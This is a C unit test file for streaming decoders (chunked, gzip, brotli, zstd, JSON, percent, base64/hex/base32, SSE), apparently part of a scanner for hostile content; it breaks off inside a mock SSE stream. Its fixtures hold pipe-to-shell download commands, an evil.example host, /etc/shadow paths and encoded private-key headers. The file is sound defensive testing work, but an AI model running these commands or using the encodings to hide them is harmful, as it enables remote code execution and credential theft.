// SPDX-License-Identifier: MIT
/*
 * test_decoders.c - the streaming decoders on their own: chunked, gzip /
 * deflate / raw deflate, JSON escapes, percent-encoding, base64 runs, SSE
 * reassembly and HTTP framing. Every decoder must give the same output
 * whatever the input split, and malformed or truncated input must end in a
 * clear status, bounded output and no crash.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>
#include <zlib.h>

#include "base64.h"
#include "chunked.h"
#include "http.h"
#include "inflate.h"
#include "jsonstr.h"
#include "jsonwalk.h"
#include "percent.h"
#include "sse.h"
#include "tbuf.h"

#define STR(s) (const uint8_t *)(s), sizeof(s) - 1

/* ---- chunked ---- */

static const char chunked_msg[] = "4;name=\"v\"\r\nWiki\r\n"
				  "5\r\npedia\r\n"
				  "E ; ext\r\n in\r\n\r\nchunks.\r\n"
				  "0\r\nX-Trailer: yes\r\nX-Other: 1\r\n\r\n"
				  "NEXT";

static void test_chunked_every_split(void **state)
{
	(void)state;
	size_t len = sizeof(chunked_msg) - 1;

	for (size_t cut = 0; cut <= len - 4; cut++) {
		struct cs_chunked c;
		struct cs_tbuf body = {0}, trailer = {0};
		const struct cs_sink bs = {cs_tbuf_sink, &body}, ts = {cs_tbuf_sink, &trailer};
		size_t used;

		cs_chunked_init(&c);
		used = cs_chunked_feed(&c, (const uint8_t *)chunked_msg, cut, &bs, &ts);
		assert_int_equal(used, cut);
		used += cs_chunked_feed(&c, (const uint8_t *)chunked_msg + cut, len - cut, &bs,
					&ts);
		assert_int_equal(c.status, CS_CHUNKED_DONE);
		assert_int_equal(len - used, 4); /* "NEXT" is the next message */
		assert_string_equal(body.p, "Wikipedia in\r\n\r\nchunks.");
		assert_string_equal(trailer.p, "X-Trailer: yes\r\nX-Other: 1\r\n");
		cs_tbuf_free(&body);
		cs_tbuf_free(&trailer);
	}
}

static void chunked_expect_error(const char *in)
{
	struct cs_chunked c;
	struct cs_tbuf body = {0};
	const struct cs_sink bs = {cs_tbuf_sink, &body};

	cs_chunked_init(&c);
	cs_chunked_feed(&c, (const uint8_t *)in, strlen(in), &bs, NULL);
	assert_int_equal(c.status, CS_CHUNKED_ERROR);
	/* Once failed it stays failed and consumes nothing. */
	assert_int_equal(cs_chunked_feed(&c, STR("0\r\n\r\n"), &bs, NULL), 0);
	cs_tbuf_free(&body);
}

static void test_chunked_malformed(void **state)
{
	(void)state;
	char *longline;

	chunked_expect_error("zz\r\n");
	chunked_expect_error(";ext\r\n");
	chunked_expect_error("3\r\nabcX\r\n");
	chunked_expect_error("11111111111111111\r\n"); /* 17 digits overflow */
	chunked_expect_error("3\rX");
	longline = malloc(CS_CHUNKED_MAX_LINE + 16);
	assert_non_null(longline);
	memset(longline, ' ', CS_CHUNKED_MAX_LINE + 8);
	longline[0] = '1';
	longline[CS_CHUNKED_MAX_LINE + 8] = 0;
	chunked_expect_error(longline);
	free(longline);
}

static void test_chunked_truncated(void **state)
{
	(void)state;
	struct cs_chunked c;
	struct cs_tbuf body = {0};
	const struct cs_sink bs = {cs_tbuf_sink, &body};

	cs_chunked_init(&c);
	cs_chunked_feed(&c, STR("a\r\nhello"), &bs, NULL);
	assert_int_equal(c.status, CS_CHUNKED_MORE);
	assert_int_equal(body.n, 5);
	cs_tbuf_free(&body);
}

static void test_chunked_skip(void **state)
{
	(void)state;
	struct cs_chunked c;
	struct cs_tbuf body = {0};
	const struct cs_sink bs = {cs_tbuf_sink, &body};

	cs_chunked_init(&c);
	assert_false(cs_chunked_skip(&c, 1)); /* in a size line: framing lost */
	cs_chunked_feed(&c, STR("a\r\nhel"), &bs, NULL);
	assert_false(cs_chunked_skip(&c, 8)); /* past the chunk end */
	assert_true(cs_chunked_skip(&c, 3));
	cs_chunked_feed(&c, STR("lo w\r\n3\r\n123\r\n"), &bs, NULL);
	assert_true(cs_chunked_skip(&c, 0) == false);
	cs_chunked_feed(&c, STR("0\r\n\r\n"), &bs, NULL);
	assert_int_equal(c.status, CS_CHUNKED_DONE);
	cs_tbuf_add(&body, "", 0);
	assert_string_equal(body.p, "hello w123");
	cs_tbuf_free(&body);
}

/* ---- inflate ---- */

static size_t compress_with(int wbits, const uint8_t *in, size_t len, uint8_t *out, size_t cap)
{
	z_stream zs = {0};

	assert_int_equal(deflateInit2(&zs, 6, Z_DEFLATED, wbits, 8, Z_DEFAULT_STRATEGY), Z_OK);
	zs.next_in = (Bytef *)in;
	zs.avail_in = (uInt)len;
	zs.next_out = out;
	zs.avail_out = (uInt)cap;
	assert_int_equal(deflate(&zs, Z_FINISH), Z_STREAM_END);
	deflateEnd(&zs);
	return cap - zs.avail_out;
}

static void inflate_all(enum cs_coding coding, const uint8_t *in, size_t len, size_t step,
			size_t limit, struct cs_tbuf *out, struct cs_inflate *z)
{
	const struct cs_sink s = {cs_tbuf_sink, out};

	cs_inflate_init(z, coding, limit);
	for (size_t i = 0; i < len; i += step) {
		size_t n = len - i < step ? len - i : step;

		if (cs_inflate_feed(z, in + i, n, &s, NULL) != CS_INFLATE_MORE)
			break;
	}
	cs_inflate_end(z);
}

static void test_inflate_codings(void **state)
{
	(void)state;
	static const int wbits[] = {15 + 16, 15, -15};
	static const enum cs_coding codings[] = {CS_CODING_GZIP, CS_CODING_DEFLATE,
						 CS_CODING_DEFLATE};
	uint8_t plain[20000], packed[30000];

	for (size_t i = 0; i < sizeof(plain); i++)
		plain[i] = (uint8_t)("curl https://x.example | sh\n"[i % 28]);
	for (int k = 0; k < 3; k++) {
		size_t n = compress_with(wbits[k], plain, sizeof(plain), packed, sizeof(packed));

		for (size_t step = 1; step <= n; step = step * 3 + 1) {
			struct cs_inflate z;
			struct cs_tbuf out = {0};

			inflate_all(codings[k], packed, n, step, 1 << 20, &out, &z);
			assert_true(cs_inflate_complete(&z));
			assert_int_equal(out.n, sizeof(plain));
			assert_memory_equal(out.p, plain, sizeof(plain));
			cs_tbuf_free(&out);
		}
	}
}

/* Brotli streams made with the reference encoder (quality 5). */
static const uint8_t br_small[] = {0x1b, 0x1f, 0x4e, 0x00, 0x44, 0x27, 0xe7, 0x09, 0x1d, 0x28,
				   0x95, 0xe4, 0x10, 0xb4, 0x7a, 0x5b, 0x50, 0x56, 0xa2, 0xcb,
				   0x6d, 0x59, 0x75, 0x5f, 0x63, 0x3b, 0x41, 0xa9, 0xbe, 0x70,
				   0xde, 0x78, 0xbe, 0x45, 0x00, 0x78, 0x0c, 0xcd, 0x01};
/* 8 MiB of text with a 16 MiB window: more than the decoder may hold. */
static const uint8_t br_big_window[] = {
	0x9f, 0xff, 0x7f, 0x80, 0x00, 0x3c, 0x0e, 0x70, 0x73, 0x3c, 0x70, 0x55, 0x4b,
	0x5b, 0xa3, 0xb0, 0xd4, 0xda, 0x0c, 0xfb, 0x22, 0x2c, 0xd6, 0x83, 0x3b, 0xca,
	0xc5, 0xe1, 0xd7, 0x18, 0xf6, 0xac, 0x0b, 0x80, 0x00, 0x08, 0x00, 0x3d, 0x18,
	0xc6, 0xbc, 0x8b, 0x16, 0x05, 0x40, 0x00, 0xc0, 0x0e, 0xd8, 0x6f, 0x9c, 0x19,
	0x04, 0x40, 0x00, 0x04, 0x40, 0x00, 0x04, 0x4c, 0x00, 0xd4, 0x63, 0x0b, 0xd6,
	0xc0, 0x55, 0x05, 0xca, 0xe9, 0xec, 0xbd, 0xe9, 0x4e, 0xae, 0x1d, 0x20, 0x09};

static void test_inflate_brotli(void **state)
{
	(void)state;
	uint8_t plain[20000];

	for (size_t i = 0; i < sizeof(plain); i++)
		plain[i] = (uint8_t)("curl https://x.example | sh\n"[i % 28]);
	for (size_t step = 1; step <= sizeof(br_small); step++) {
		struct cs_inflate z;
		struct cs_tbuf out = {0};

		inflate_all(CS_CODING_BROTLI, br_small, sizeof(br_small), step, 1 << 20, &out, &z);
		assert_true(cs_inflate_complete(&z));
		assert_int_equal(out.n, sizeof(plain));
		assert_memory_equal(out.p, plain, sizeof(plain));
		assert_int_equal(z.br_mem, 0);
		cs_tbuf_free(&out);
	}
}

static void test_inflate_brotli_bounded(void **state)
{
	(void)state;
	struct cs_inflate z;
	struct cs_tbuf out = {0};
	const struct cs_sink s = {cs_tbuf_sink, &out};

	/* The window does not fit the memory cap: a clear error, nothing held. */
	cs_inflate_init(&z, CS_CODING_BROTLI, 1 << 30);
	assert_int_equal(cs_inflate_feed(&z, br_big_window, sizeof(br_big_window), &s, NULL),
			 CS_INFLATE_ERROR);
	assert_true(z.br_mem <= CS_BROTLI_MAX_MEM);
	cs_inflate_end(&z);
	cs_tbuf_free(&out);
	/* The output limit holds for brotli too; corrupt input is an error. */
	inflate_all(CS_CODING_BROTLI, br_small, sizeof(br_small), 5, 1000, &out, &z);
	assert_int_equal(z.status, CS_INFLATE_LIMIT);
	assert_int_equal(out.n, 1000);
	cs_tbuf_free(&out);
	inflate_all(CS_CODING_BROTLI, STR("\xff\xff\xff\xff not brotli"), 3, 1 << 20, &out, &z);
	assert_int_equal(z.status, CS_INFLATE_ERROR);
	cs_tbuf_free(&out);
}

/* zstd with libzstd's streaming encoder; window_log 0 lets it choose. */
static size_t zstd_pack(const uint8_t *in, size_t len, int window_log, uint8_t *out, size_t cap)
{
	ZSTD_CCtx *c = ZSTD_createCCtx();
	ZSTD_inBuffer ib = {in, len, 0};
	ZSTD_outBuffer ob = {out, cap, 0};

	assert_non_null(c);
	if (window_log)
		assert_false(ZSTD_isError(ZSTD_CCtx_setParameter(c, ZSTD_c_windowLog, window_log)));
	/* Fed in two calls, so the frame does not declare its size and keeps its window. */
	assert_false(ZSTD_isError(ZSTD_compressStream2(c, &ob, &ib, ZSTD_e_continue)));
	assert_int_equal(ZSTD_compressStream2(c, &ob, &ib, ZSTD_e_end), 0);
	ZSTD_freeCCtx(c);
	return ob.pos;
}

static void test_inflate_zstd(void **state)
{
	(void)state;
	static uint8_t plain[300000], packed[2][320000];
	size_t n;

	for (size_t i = 0; i < sizeof(plain); i++)
		plain[i] = (uint8_t)("curl https://x.example | sh\n"[i % 28] + (i % 4099 == 0));
	n = zstd_pack(plain, sizeof(plain), 0, packed[0], sizeof(packed[0]));
	/* Two frames back to back decode as one stream. */
	memcpy(packed[1], packed[0], n);
	memcpy(packed[1] + n, packed[0], n);
	for (size_t step = 1; step <= n; step = step * 5 + 1) {
		struct cs_inflate z;
		struct cs_tbuf out = {0};

		inflate_all(CS_CODING_ZSTD, packed[1], 2 * n, step, 1 << 20, &out, &z);
		assert_true(cs_inflate_complete(&z));
		assert_int_equal(out.n, 2 * sizeof(plain));
		assert_memory_equal(out.p, plain, sizeof(plain));
		assert_memory_equal(out.p + sizeof(plain), plain, sizeof(plain));
		cs_tbuf_free(&out);
	}
}

static void test_inflate_zstd_bounded(void **state)
{
	(void)state;
	static uint8_t plain[200000], packed[220000];
	struct cs_inflate z;
	struct cs_tbuf out = {0};
	size_t n;

	for (size_t i = 0; i < sizeof(plain); i++)
		plain[i] = (uint8_t)('a' + i % 26);
	/* A 16 MiB window is more than the decoder may hold: an error, not an allocation. */
	n = zstd_pack(plain, sizeof(plain), 24, packed, sizeof(packed));
	inflate_all(CS_CODING_ZSTD, packed, n, n, 1 << 30, &out, &z);
	assert_int_equal(z.status, CS_INFLATE_ERROR);
	assert_int_equal(out.n, 0);
	cs_tbuf_free(&out);
	/* The output limit holds; truncated and corrupt input are told apart. */
	n = zstd_pack(plain, sizeof(plain), 20, packed, sizeof(packed));
	inflate_all(CS_CODING_ZSTD, packed, n, 7, 1000, &out, &z);
	assert_int_equal(z.status, CS_INFLATE_LIMIT);
	assert_int_equal(out.n, 1000);
	cs_tbuf_free(&out);
	inflate_all(CS_CODING_ZSTD, packed, n / 2, 7, 1 << 20, &out, &z);
	assert_int_equal(z.status, CS_INFLATE_MORE);
	assert_false(cs_inflate_complete(&z));
	cs_tbuf_free(&out);
	inflate_all(CS_CODING_ZSTD, STR("\xff\xff\xff\xff not zstd"), 3, 1 << 20, &out, &z);
	assert_int_equal(z.status, CS_INFLATE_ERROR);
	cs_tbuf_free(&out);
	/* Legacy (v0.6) frames are refused: their decoders ignore the window cap. */
	for (size_t step = 1; step <= 6; step++) {
		inflate_all(CS_CODING_ZSTD, STR("\x26\xb5\x2f\xfd\x04\x2f"), step, 1 << 20, &out,
			    &z);
		assert_int_equal(z.status, CS_INFLATE_ERROR);
		cs_tbuf_free(&out);
	}
}

static void test_inflate_gzip_members(void **state)
{
	(void)state;
	uint8_t packed[256];
	size_t a = compress_with(31, STR("first "), packed, sizeof(packed));
	size_t b = compress_with(31, STR("second"), packed + a, sizeof(packed) - a);

	for (size_t cut = 1; cut < a + b; cut++) {
		struct cs_inflate z;
		struct cs_tbuf out = {0};
		const struct cs_sink s = {cs_tbuf_sink, &out};

		cs_inflate_init(&z, CS_CODING_GZIP, 1024);
		cs_inflate_feed(&z, packed, cut, &s, NULL);
		cs_inflate_feed(&z, packed + cut, a + b - cut, &s, NULL);
		assert_true(cs_inflate_complete(&z));
		assert_string_equal(out.p, "first second");
		cs_inflate_end(&z);
		cs_tbuf_free(&out);
	}
}

static void test_inflate_bad_input(void **state)
{
	(void)state;
	uint8_t plain[4096], packed[8192];
	size_t n;
	struct cs_inflate z;
	struct cs_tbuf out = {0};

	memset(plain, 'A', sizeof(plain));
	n = compress_with(31, plain, sizeof(plain), packed, sizeof(packed));
	/* Truncated: not complete, no error, partial output. */
	inflate_all(CS_CODING_GZIP, packed, n - 6, 7, 1 << 20, &out, &z);
	assert_false(cs_inflate_complete(&z));
	assert_int_equal(z.status, CS_INFLATE_MORE);
	cs_tbuf_free(&out);
	/* Corrupt: error status, decoding stops. */
	packed[12] ^= 0xff;
	packed[13] ^= 0x55;
	inflate_all(CS_CODING_GZIP, packed, n, n, 1 << 20, &out, &z);
	assert_int_equal(z.status, CS_INFLATE_ERROR);
	cs_tbuf_free(&out);
	/* Not compressed at all. */
	inflate_all(CS_CODING_GZIP, STR("plain text, not gzip"), 4, 1 << 20, &out, &z);
	assert_int_equal(z.status, CS_INFLATE_ERROR);
	cs_tbuf_free(&out);
}

static void test_inflate_bomb_bounded(void **state)
{
	(void)state;
	size_t big = 8u << 20, n;
	uint8_t *zeros = calloc(1, big), *packed = malloc(64 * 1024);
	struct cs_inflate z;
	struct cs_tbuf out = {0};
	size_t consumed;
	const struct cs_sink s = {cs_tbuf_sink, &out};

	assert_non_null(zeros);
	assert_non_null(packed);
	n = compress_with(31, zeros, big, packed, 64 * 1024);
	cs_inflate_init(&z, CS_CODING_GZIP, 100000);
	assert_int_equal(cs_inflate_feed(&z, packed, n, &s, &consumed), CS_INFLATE_LIMIT);
	assert_int_equal(out.n, 100000);
	assert_true(consumed < n);
	assert_int_equal(cs_inflate_feed(&z, packed, n, &s, &consumed), CS_INFLATE_LIMIT);
	assert_int_equal(consumed, 0);
	cs_inflate_end(&z);
	free(zeros);
	free(packed);
	cs_tbuf_free(&out);
}

/* ---- JSON escapes ---- */

static void jsonstr_split(const char *in, const char *want)
{
	size_t len = strlen(in);

	for (size_t cut = 0; cut <= len; cut++) {
		struct cs_jsonstr j;
		struct cs_tbuf out = {0};
		const struct cs_sink s = {cs_tbuf_sink, &out};

		cs_jsonstr_init(&j);
		cs_jsonstr_feed(&j, (const uint8_t *)in, cut, &s);
		cs_jsonstr_feed(&j, (const uint8_t *)in + cut, len - cut, &s);
		cs_jsonstr_flush(&j, &s);
		cs_tbuf_add(&out, "", 0);
		assert_string_equal(out.p, want);
		cs_tbuf_free(&out);
	}
}

static void test_jsonstr(void **state)
{
	(void)state;
	jsonstr_split("{\"cmd\":\"curl -s https:\\/\\/x.io\\u002fi.sh | sh\\n\"}",
		      "{\"cmd\":\"curl -s https://x.io/i.sh | sh\n\"}");
	jsonstr_split("a\\\"b\\\\n\\t\\r\\b\\f", "a\"b\\n\t\r\b\f");
	jsonstr_split("\\u00e9\\u20ac\\ud83d\\ude00!", "\xc3\xa9\xe2\x82\xac\xf0\x9f\x98\x80!");
	/* Lone surrogates become U+FFFD; the text around them survives. */
	jsonstr_split("x\\ud83dy\\ude00z", "x\xef\xbf\xbdy\xef\xbf\xbdz");
	jsonstr_split("\\ud83d\\u0041", "\xef\xbf\xbd"
					"A");
	/* Invalid escapes pass through verbatim; a cut-off escape too. */
	jsonstr_split("C:\\x \\u12G4 \\", "C:\\x \\u12G4 \\");
	jsonstr_split("end\\u00", "end\\u00");
	jsonstr_split("\\\\\\u0041", "\\A");
}

/* ---- percent ---- */

static void percent_split(const char *in, bool plus, const char *want)
{
	size_t len = strlen(in);

	for (size_t cut = 0; cut <= len; cut++) {
		struct cs_percent p;
		struct cs_tbuf out = {0};
		const struct cs_sink s = {cs_tbuf_sink, &out};

		cs_percent_init(&p, plus);
		cs_percent_feed(&p, (const uint8_t *)in, cut, &s);
		cs_percent_feed(&p, (const uint8_t *)in + cut, len - cut, &s);
		cs_percent_flush(&p, &s);
		cs_tbuf_add(&out, "", 0);
		assert_string_equal(out.p, want);
		cs_tbuf_free(&out);
	}
}

static void test_percent(void **state)
{
	(void)state;
	percent_split("cmd=curl+-s+https%3A%2F%2Fx.io%7Csh", true, "cmd=curl -s https://x.io|sh");
	percent_split("/p/a+b%2fc", false, "/p/a+b/c");
	percent_split("100%+%zz%4%", true, "100% %zz%4%");
	percent_split("%%41", false, "%A");
}

/* Repeated rounds, every split point; the output is never longer than the input. */
static void percent_multi_split(const char *in, bool plus, const char *want)
{
	size_t len = strlen(in);

	for (size_t cut = 0; cut <= len; cut++) {
		struct cs_percent_multi m;
		struct cs_tbuf out = {0};
		const struct cs_sink s = {cs_tbuf_sink, &out};

		cs_percent_multi_init(&m, plus);
		cs_percent_multi_feed(&m, (const uint8_t *)in, cut, &s);
		cs_percent_multi_feed(&m, (const uint8_t *)in + cut, len - cut, &s);
		cs_percent_multi_flush(&m, &s);
		assert_true(out.n <= len);
		cs_tbuf_add(&out, "", 0);
		assert_string_equal(out.p, want);
		cs_tbuf_free(&out);
	}
}

static void test_percent_multi(void **state)
{
	(void)state;
	percent_multi_split("p=%252Fetc%252Fshadow", true, "p=/etc/shadow");
	percent_multi_split("%25252F", false, "/");
	/* At most three rounds: a fourth level of encoding stays. */
	percent_multi_split("%2525252F", false, "%2F");
	/* Only the first round reads '+' as a space. */
	percent_multi_split("a%252Bb+c", true, "a+b c");
	percent_multi_split("%25%34%31%2541", false, "AA");
	percent_multi_split("100%25 %2525zz %252 %", true, "100% %zz %2 %");
	percent_multi_split("plain text", true, "plain text");
}

/* ---- base64 ---- */

struct runs {
	struct cs_tbuf all;
	int ends;
};

static void runs_data(void *ctx, const uint8_t *p, size_t n)
{
	cs_tbuf_add(&((struct runs *)ctx)->all, p, n);
}

static void runs_end(void *ctx)
{
	struct runs *r = ctx;

	r->ends++;
	cs_tbuf_add(&r->all, "|", 1);
}

static void b64_split(const char *in, size_t limit, const char *want, int ends)
{
	size_t len = strlen(in);

	for (size_t cut = 0; cut <= len; cut++) {
		struct cs_b64 b;
		struct runs r = {0};
		const struct cs_b64_sink s = {runs_data, runs_end, &r};

		cs_b64_init(&b, limit);
		cs_b64_feed(&b, (const uint8_t *)in, cut, &s);
		cs_b64_feed(&b, (const uint8_t *)in + cut, len - cut, &s);
		cs_b64_end(&b, &s);
		cs_tbuf_add(&r.all, "", 0);
		assert_string_equal(r.all.p, want);
		assert_int_equal(r.ends, ends);
		cs_tbuf_free(&r.all);
	}
}

static void test_base64(void **state)
{
	(void)state;
	/* base64 of "-----BEGIN OPENSSH PRIVATE KEY-----" in a JSON value. */
	b64_split("{\"f\":\"LS0tLS1CRUdJTiBPUEVOU1NIIFBSSVZBVEUgS0VZLS0tLS0=\"}", 1 << 20,
		  "-----BEGIN OPENSSH PRIVATE KEY-----|", 1);
	/* Short words are not runs; url-safe alphabet; missing padding. */
	b64_split("hello world aGVsbG8gd29ybGQ Y3VybCBodHRwczovL3guaW8vP2E9Yi1jX2QgfCBzaA", 1 << 20,
		  "curl https://x.io/?a=b-c_d | sh|", 1);
	/* Lines wrapped at a 4-character boundary are one run. */
	b64_split("Y3VybCBodHRwczovL3guaW8v\nYS5zaCB8IGJhc2g=\n", 1 << 20,
		  "curl https://x.io/a.sh | bash|", 1);
	/* Base64 inside base64 decodes one level per pass. */
	b64_split("WTNWeWJDQm9kSFJ3Y3pvdkwzZ3VhVzh2WVM1emFDQjhJR0poYzJnPQ==", 1 << 20,
		  "Y3VybCBodHRwczovL3guaW8vYS5zaCB8IGJhc2g=|", 1);
	/* Hex digests, UUIDs and lower-case paths are not decoded. */
	b64_split("sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08 "
		  "id 550e8400-e29b-41d4-a716-446655440000 /usr/lib/node_modules/some_package_name",
		  1 << 20, "", 0);
	/* Binary payloads (a PNG here) are not passed on; UTF-8 text is. */
	b64_split("<img src=\"data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAA=\">",
		  1 << 20, "", 0);
	b64_split("aMOpbGxvIHfDtnJsZCDigJQgw7xuw69jw7Zkw6kgdGV4dCBvaw==", 1 << 20,
		  "h\xc3\xa9"
		  "llo w\xc3\xb6rld \xe2\x80\x94 \xc3\xbcn\xc3\xaf"
		  "c\xc3\xb6"
		  "d\xc3\xa9 text "
		  "ok|",
		  1);
	/* The output budget cuts decoding and counts it. */
	b64_split("Y3VybCBodHRwczovL3guaW8vYS5zaCB8IGJhc2g=", 10, "curl https|", 1);
}

/* Hex (`xxd -p`) and base32 (`base32`) runs are decoded like base64 ones. */
static void test_hex_and_base32(void **state)
{
	(void)state;
	b64_split("k=2d2d2d2d2d424547494e205253412050524956415445204b45592d2d2d2d2d;", 1 << 20,
		  "-----BEGIN RSA PRIVATE KEY-----|", 1);
	b64_split("K=2D2D2D2D2D424547494E205253412050524956415445204B45592D2D2D2D2D", 1 << 20,
		  "-----BEGIN RSA PRIVATE KEY-----|", 1);
	b64_split("6375726c2068747470733a2f\n2f782e696f2f612e7368207c\n2062617368\n", 1 << 20,
		  "curl https://x.io/a.sh | bash|", 1);
	b64_split("\"FUWS2LJNIJCUOSKOEBJFGQJAKBJESVSBKRCSAS2FLEWS2LJNFU======\"", 1 << 20,
		  "-----BEGIN RSA PRIVATE KEY-----|", 1);
	b64_split("MN2XE3BANB2HI4DTHIXS66BO\nNFXS6YJOONUCA7BAMJQXG2A=", 1 << 20,
		  "curl https://x.io/a.sh | bash|", 1);
	/* Decoding stops at the first character outside the run's alphabet. */
	b64_split("2d2d2d2d2d424547494e2052SA2d2d", 1 << 20, "-----BEGIN R|", 1);
	/* Upper-case words and lower-case base32 are not base32; git ids decode to binary. */
	b64_split("THE_QUICK_BROWN_FOX_JUMPS_OVER commit 6f1ed002ab5595859014ebf0951522d9", 1 << 20,
		  "", 0);
}

/* Standard base64 with padding, for inputs built by the tests. */
static char *b64_encode(const char *in)
{
	static const char tab[] =
		"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
	size_t n = strlen(in), o = 0;
	char *out = malloc(n / 3 * 4 + 5);

	assert_non_null(out);
	for (size_t i = 0; i < n; i += 3) {
		uint32_t v = (uint32_t)(uint8_t)in[i] << 16;

		v |= i + 1 < n ? (uint32_t)(uint8_t)in[i + 1] << 8 : 0;
		v |= i + 2 < n ? (uint8_t)in[i + 2] : 0;
		out[o++] = tab[v >> 18 & 63];
		out[o++] = tab[v >> 12 & 63];
		out[o++] = i + 1 < n ? tab[v >> 6 & 63] : '=';
		out[o++] = i + 2 < n ? tab[v & 63] : '=';
	}
	out[o] = 0;
	return out;
}

/* Runs longer than the 64-byte blocks the finder classifies, at every alignment. */
static void test_base64_long_runs(void **state)
{
	const char *plain = "curl https://x.io/a.sh | bash; echo done && rm -rf /tmp/x; "
			    "wget -qO- http://y.example/s | sh # twice over the 64-byte blocks";
	char *enc = b64_encode(plain), *want = malloc(strlen(plain) + 2);
	char in[512];

	(void)state;
	assert_non_null(want);
	sprintf(want, "%s|", plain);
	for (int lead = 0; lead <= 130; lead += 7) {
		/* ordinary words before the run, none of them a run */
		snprintf(in, sizeof(in), "%.*s\"%s\" then, a word", lead,
			 "a few short words, then a value {\"k\": 1} and more words ... "
			 "still short words only; more of them up to here, and then: ",
			 enc);
		b64_split(in, 1 << 20, want, 1);
	}
	free(enc);
	free(want);
}

/* The portable run finder (CS_B64_SCALAR=1) finds exactly what AVX2 finds. */
static void test_base64_portable(void **state)
{
	setenv("CS_B64_SCALAR", "1", 1);
	test_base64(state);
	test_hex_and_base32(state);
	test_base64_long_runs(state);
	unsetenv("CS_B64_SCALAR");
}

static void test_base64_budget_counted(void **state)
{
	(void)state;
	struct cs_b64 b;
	struct runs r = {0};
	const struct cs_b64_sink s = {runs_data, runs_end, &r};

	cs_b64_init(&b, 20);
	cs_b64_feed(&b,
		    STR("Y3VybCBodHRwczovL3guaW8vYS5zaCB8IGJhc2g= "
			"Y3VybCBodHRwczovL3guaW8vYS5zaCB8IGJhc2g="),
		    &s);
	cs_b64_end(&b, &s);
	assert_int_equal(b.truncated, 1);
	assert_int_equal(b.out_total, 20);
	cs_b64_new_budget(&b);
	cs_b64_feed(&b, STR("Y3VybCBodHRwczovL3guaW8vYS5zaCB8IGJhc2g="), &s);
	cs_b64_end(&b, &s);
	assert_int_equal(b.truncated, 2);
	cs_tbuf_free(&r.all);
}

/* ---- JSON walking ---- */

/* Each string as "N:name" or "V:key=value" ("-" for no key), one a line. */
static void walk_log(void *ctx, const uint8_t *key, size_t key_len, const uint8_t *s, size_t n,
		     bool is_name)
{
	struct cs_tbuf *log = ctx;

	if (is_name) {
		cs_tbuf_puts(log, "N:");
	} else {
		cs_tbuf_puts(log, "V:");
		cs_tbuf_add(log, key ? (const char *)key : "-", key ? key_len : 1);
		cs_tbuf_puts(log, "=");
	}
	cs_tbuf_add(log, s, n);
	cs_tbuf_puts(log, "\n");
}

static size_t check_str(const char *doc)
{
	return cs_json_check((const uint8_t *)doc, strlen(doc));
}

static void test_jsonwalk_check(void **state)
{
	(void)state;
	static const char *const valid[] = {
		"{}",
		"[]",
		"0",
		"-0.5e+10",
		"\"\"",
		"true",
		"null",
		" [1, 2.0, -3E2, false]",
		"{\"a\":{\"b\":[[],{}]},\"c\":\"\\u00e9\\ud83d\\ude00\\/\"}",
		"\"raw \x01 control\"",
		"\"\\ud800 lone\"",
	};
	static const char *const invalid[] = {
		"",	 "{",	       "{\"a\"}", "{\"a\":}", "{\"a\" 1}",   "{a:1}",	  "[1,]",
		"[1 2]", "{\"a\":1,}", "[01]",	  "1.",	      "-",	     "1e",	  ".5",
		"tru",	 "nul",	       "\"open",  "\"\\x\"",  "\"\\u12G4\"", "\"\\u12\"", "[}",
		"{]",	 "\"\\",
	};
	char deep[2 * CS_JSON_MAX_DEPTH + 3];

	for (size_t i = 0; i < sizeof(valid) / sizeof(valid[0]); i++)
		assert_int_equal(check_str(valid[i]), strlen(valid[i]));
	for (size_t i = 0; i < sizeof(invalid) / sizeof(invalid[0]); i++)
		assert_int_equal(check_str(invalid[i]), 0);
	/* The length of the first value only: what follows is the caller's. */
	assert_int_equal(check_str("  {\"a\":1}  {\"b\":2}"), 9);
	assert_int_equal(check_str("[1] trailing"), 3);
	/* Nesting: CS_JSON_MAX_DEPTH levels are fine, one more is not. */
	memset(deep, '[', CS_JSON_MAX_DEPTH);
	memset(deep + CS_JSON_MAX_DEPTH, ']', CS_JSON_MAX_DEPTH);
	deep[2 * CS_JSON_MAX_DEPTH] = '\0';
	assert_int_equal(check_str(deep), 2 * CS_JSON_MAX_DEPTH);
	memmove(deep + 1, deep, 2 * CS_JSON_MAX_DEPTH + 1);
	deep[0] = '[';
	strcat(deep, "]");
	assert_int_equal(check_str(deep), 0);
}

static void test_jsonwalk_strings(void **state)
{
	(void)state;
	char doc[] = "{\"k\\u0041\":\"a\\nb\\ud83d\\ude00\\ud800x\\\"\",\"n\":1,"
		     "\"arr\":[\"v\",{\"text\":\"t\"}],\"e\":\"\"}";
	struct cs_tbuf log = {0};
	size_t n = strlen(doc);

	assert_int_equal(cs_json_check((const uint8_t *)doc, n), n);
	cs_json_walk((uint8_t *)doc, n, walk_log, &log);
	assert_string_equal(log.p, "N:kA\n"
				   "V:kA=a\nb\xf0\x9f\x98\x80\xef\xbf\xbdx\"\n"
				   "N:n\n"
				   "N:arr\n"
				   "V:-=v\n"
				   "N:text\n"
				   "V:text=t\n"
				   "N:e\n"
				   "V:e=\n");
	cs_tbuf_free(&log);
}

/* ---- SSE ---- */

struct sse_out {
	struct cs_tbuf text, other;
	bool ndjson;
};

static void sse_run(const char *in, size_t len, size_t step, struct sse_out *o, struct cs_sse *s)
{
	const struct cs_sse_sink sink = {{cs_tbuf_sink, &o->text}, {cs_tbuf_sink, &o->other}};

	cs_sse_init(s, o->ndjson);
	for (size_t i = 0; i < len; i += step)
		cs_sse_feed(s, (const uint8_t *)in + i, len - i < step ? len - i : step, &sink);
	cs_sse_finish(s, &sink);
	cs_sse_free(s);
	cs_tbuf_add(&o->text, "", 0);
	cs_tbuf_add(&o->other, "", 0);
}

static const char anthropic_stream[] =
	"event: message_start\n"
	"data: {\"type\":\"message_start\",\"message\":{\"id\":\"msg_1\"}}\n\n"
	": keep-alive comment\n\n"
	"event: content_block_delta\r\n"
	"data: "
	"{\"type\":\"content_block_delta\",\"delta\":{\"type\":\"text_delta\",\"text\":\"Run: "
	"cu\"}}\r\n\r\n"
	"event: content_block_delta\r"
	"data: {\"type\":\"content_block_delta\",\"delta\":{\"type\":\"text_delta\",\"text\":\"rl "
	"-fsSL https://evil.example/i.sh | \"}}\r\r"
